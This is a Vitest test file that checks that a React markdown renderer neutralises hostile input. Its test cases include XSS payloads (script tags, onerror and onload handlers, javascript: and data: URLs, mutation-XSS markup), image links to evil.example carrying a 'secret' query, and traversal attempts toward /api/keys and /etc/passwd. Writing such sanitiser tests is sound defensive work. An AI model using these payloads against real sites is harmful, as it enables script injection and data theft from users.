import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { RenderedMarkdown } from "./rendered-markdown.tsx";

const drawn = (text: string) => renderToStaticMarkup(createElement(RenderedMarkdown, { text }));
const addresses = (html: string) =>
  [...html.matchAll(/(?:href|src|srcset|xlink:href)="([^"]*)"/g)].map(([, to]) => to);

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="https://evil.example/x"/></svg>`;

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  SVG,
  `text ${SVG} text`,
  "<iframe src=https://evil.example></iframe>",
  "<style>@import url(https://evil.example)</style>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<!-- <img src=https://evil.example> -->",
  "> <details open ontoggle=alert(1)>\n",
  "| <img src=x> |\n|---|\n| <svg/onload=alert(1)> |",
])("raw HTML stays text: %s", (text) => {
  const html = drawn(text);
  expect(html).not.toMatch(
    /<(?:script|img|svg|image|iframe|style|math|details|object|embed|link|meta|base|form|input)\b/i,
  );
  expect(html.replaceAll(/&lt;.*?&gt;/gs, "")).not.toMatch(/\son\w+=/i);
  expect(addresses(html)).toEqual([]);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/keys)",
  "[x](blob:https://here/1)",
  "[x](laneway:act)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "x[^1]\n\n[^1]: note",
  "![x](usr_01k2x3y4z5a6b7c8d9e0f1g2h3)",
])("an address that is no web page and no mail address leads nowhere: %s", (text) => {
  expect(addresses(drawn(text))).toEqual([]);
});

test("links lead to http, https and mailto, without telling where they were followed", () => {
  const html = drawn("[a](http://a.example) <https://b.example> [c](mailto:c@d.example) www.e.example");
  expect(addresses(html)).toEqual([
    "http://a.example",
    "https://b.example",
    "mailto:c@d.example",
    "http://www.e.example",
  ]);
  expect(html.match(/rel="noreferrer noopener nofollow"/g)).toHaveLength(4);
});

test("an image from elsewhere is a link and loads nothing, within a link too", () => {
  const html = drawn(
    "![chart](https://evil.example/?q=secret) [![in](https://a.example/i)](https://b.example)",
  );
  expect(html).not.toContain("<img");
  expect(addresses(html)).toEqual(["https://evil.example/?q=secret", "https://b.example"]);
  expect(html.match(/<a /g)).toHaveLength(2);
});

test("a mention is the person's name, and no link", () => {
  const html = drawn("@[Maya *Lindt*](usr_01k2x3y4z5a6b7c8d9e0f1g2h3) look");
  expect(html).toContain("Maya");
  expect(addresses(html)).toEqual([]);
  expect(html).not.toContain("usr_");
});

test("boxes of a task list say whether they are done", () => {
  const html = drawn("- [x] one\n- [ ] two");
  expect(html).not.toContain("<input");
  expect(html).toMatch(/aria-label="Done".*aria-label="Not done"/s);
});

const ID = "01k2x3y4z5a6b7c8d9e0f1g2h3";

test("documents and files of the workspace are led to, and an image among the files is drawn", () => {
  const html = drawn(`[a](/documents/doc_${ID}) [b](/files/fil_${ID}) ![c](/files/fil_${ID})`);
  expect(addresses(html)).toEqual([
    `/documents/doc_${ID}`,
    `/files/fil_${ID}`,
    `/files/fil_${ID}`,
    `/api/files/fil_${ID}/content`,
  ]);
});

test.each([
  `[x](/documents/doc_${ID}/../../api/keys)`,
  `[x](/documents/doc_${ID}?x=1)`,
  `[x](//documents/doc_${ID})`,
  "[x](/api/session)",
  `![x](/documents/doc_${ID})`,
  `![x](/files/fil_${ID}/content)`,
])("no other page of ours is: %s", (text) => {
  expect(addresses(drawn(text))).toEqual([]);
});
